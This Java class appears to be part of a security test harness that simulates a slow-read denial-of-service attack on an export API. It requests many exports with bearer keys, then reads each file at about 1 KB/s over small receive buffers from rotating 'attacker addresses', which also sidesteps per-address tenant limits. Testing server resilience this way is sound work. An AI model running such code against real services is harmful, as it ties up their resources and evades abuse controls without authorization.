package pelcro.exports.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.LongAdder;
import org.apache.hc.core5.http.ClassicHttpResponse;
import org.apache.hc.core5.http.HttpException;
import org.apache.hc.core5.http.impl.io.DefaultBHttpClientConnection;

/**
 * Scenario 2 of issue 10: many clients download big exports at 1 KB/s. First it requests the
 * exports (one per type and key: one export per type and account runs at a time, and each file
 * downloads once), waits for them to finish, then opens one slow reader per file from the attacker
 * addresses, each with a small receive buffer so that the server's writes block.
 */
public final class SlowReaders {
  private static final ObjectMapper JSON = new ObjectMapper();

  /** A finished export and the key that may download it. */
  public record File(String key, long site, String uuid) {}

  private final InetSocketAddress server;
  private final List<InetAddress> addresses;
  private final Tally tally;
  private final LongAdder started = new LongAdder();
  private final LongAdder ok = new LongAdder();
  private final LongAdder refused = new LongAdder();
  private final LongAdder cutOff = new LongAdder();
  private final LongAdder neverAnswered = new LongAdder();
  private final java.util.Map<Integer, LongAdder> refusals =
      new java.util.concurrent.ConcurrentSkipListMap<>();
  private final LongAdder bytes = new LongAdder();
  private java.util.Map<Integer, Integer> lastRequestStatuses = java.util.Map.of();
  private volatile String firstRefusal = "";

  public SlowReaders(InetSocketAddress server, List<InetAddress> addresses, Tally tally) {
    this.server = server;
    this.addresses = List.copyOf(addresses);
    this.tally = tally;
  }

  /**
   * Requests up to {@code wanted} exports of the last ~6 months, one per (key, type), and returns
   * those the API accepted; the caller waits for them to finish. Each key speaks from its own
   * attacker address: a public sandbox may limit new Try-it tenants per client address.
   */
  public List<File> request(
      List<String> keys, long site, List<String> types, Instant now, int wanted) {
    java.util.Map<Integer, Integer> statuses = new java.util.TreeMap<>();
    long to = now.getEpochSecond() - 86_400;
    long from = to - 180 * 86_400L;
    List<File> files = new ArrayList<>();
    for (int k = 0; k < keys.size() && files.size() < wanted; k++) {
      String key = keys.get(k);
      try (WireConnection wire =
          new WireConnection(server, addresses.get(k % addresses.size()), 30_000, 1 << 16)) {
        for (String type : types) {
          if (files.size() >= wanted) {
            break;
          }
          byte[] body =
              ("{\"object\":\"" + type + "\",\"date_from\":" + from + ",\"date_to\":" + to + "}")
                  .getBytes(StandardCharsets.US_ASCII);
          Answer answer =
              wire.send(
                  new Probe(
                      Probe.Op.REQUEST,
                      "POST",
                      "/api/v1/core/exports?site_id=" + site,
                      List.of(
                          new Probe.Header("Authorization", "Bearer " + key),
                          new Probe.Header("Content-Type", "application/json")),
                      body,
                      "slow reader's export"));
          statuses.merge(answer.status(), 1, Integer::sum);
          if (answer.status() == 200) {
            try {
              JsonNode uuid = JSON.readTree(answer.body()).path("data").path("uuid");
              files.add(new File(key, site, uuid.asText()));
            } catch (IOException e) {
              // not JSON: the rules count it elsewhere; this file is simply not ready
            }
          }
        }
      }
    }
    lastRequestStatuses = statuses;
    return files;
  }

  /**
   * Reads every file at {@code bytesPerSecond} for {@code seconds}, one thread each, then hangs up.
   */
  public void run(List<File> files, long seconds, int bytesPerSecond) throws InterruptedException {
    long deadline = System.nanoTime() + seconds * 1_000_000_000L;
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < files.size(); i++) {
      File file = files.get(i);
      InetAddress from = addresses.get(i % addresses.size());
      Thread t =
          new Thread(
              null, () -> read(file, from, deadline, bytesPerSecond), "slow-reader", 256 * 1024);
      t.setDaemon(true);
      threads.add(t);
      t.start();
    }
    for (Thread t : threads) {
      t.join(Math.max(1, (deadline - System.nanoTime()) / 1_000_000 + 15_000));
    }
  }

  private void read(File file, InetAddress from, long deadline, int bytesPerSecond) {
    String path = "/api/v1/core/exports/" + file.uuid();
    byte[] request =
        ("GET "
                + path
                + "?site_id="
                + file.site()
                + " HTTP/1.1\r\nHost: "
                + server.getHostString()
                + ":"
                + server.getPort()
                + "\r\nAuthorization: Bearer "
                + file.key()
                + "\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII);
    long t0 = System.nanoTime();
    try (Socket socket = new Socket()) {
      socket.setReceiveBufferSize(4096);
      socket.bind(new InetSocketAddress(from, 0));
      socket.connect(server, 5000);
      socket.setSoLinger(true, 0);
      socket.setSoTimeout(30_000);
      socket.getOutputStream().write(request);
      started.increment();
      DefaultBHttpClientConnection conn = AnswerReader.bind(socket);
      ClassicHttpResponse response;
      try {
        response = conn.receiveResponseHeader();
      } catch (java.net.SocketTimeoutException e) {
        neverAnswered.increment();
        return;
      }
      if (response.getCode() != 200) {
        refused.increment();
        refusals.computeIfAbsent(response.getCode(), c -> new LongAdder()).increment();
        conn.receiveResponseEntity(response);
        byte[] body =
            response.getEntity() == null
                ? new byte[0]
                : response.getEntity().getContent().readNBytes(1 << 16);
        java.util.Map<String, String> headers = new java.util.LinkedHashMap<>();
        for (var h : response.getHeaders()) {
          headers.putIfAbsent(h.getName().toLowerCase(java.util.Locale.ROOT), h.getValue());
        }
        Answer answer =
            new Answer(
                response.getCode(),
                headers,
                body,
                false,
                false,
                Answer.Failure.NONE,
                System.nanoTime() - t0);
        if (firstRefusal.isEmpty()) {
          firstRefusal = answer.summary();
        }
        tally.record(
            "slow reader download",
            () -> new String(request, StandardCharsets.US_ASCII),
            answer,
            Rules.check("GET", path, answer, true));
        return;
      }
      ok.increment();
      conn.receiveResponseEntity(response);
      InputStream in = response.getEntity().getContent();
      byte[] buffer = new byte[bytesPerSecond];
      while (System.nanoTime() < deadline) {
        long second = System.nanoTime();
        int n = in.readNBytes(buffer, 0, buffer.length);
        bytes.add(n);
        if (n < buffer.length) {
          cutOff.increment();
          return;
        }
        long rest = 1000 - (System.nanoTime() - second) / 1_000_000;
        if (rest > 0) {
          Thread.sleep(rest);
        }
      }
    } catch (IOException | HttpException e) {
      cutOff.increment();
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  /** The statuses of the last {@link #request}'s POSTs, status → count. */
  public java.util.Map<Integer, Integer> requestStatuses() {
    return lastRequestStatuses;
  }

  /** What the readers got, in one line. */
  public String describe(int files) {
    return String.format(
        "%d files ready; %,d readers connected, %,d got 200, %,d were refused %s,"
            + " %,d got no answer within 30 s, %,d were cut off or ended early; %,d bytes read in all%s",
        files,
        started.sum(),
        ok.sum(),
        refused.sum(),
        refusals,
        neverAnswered.sum(),
        cutOff.sum(),
        bytes.sum(),
        firstRefusal.isEmpty() ? "" : "; first refusal: " + firstRefusal);
  }
}
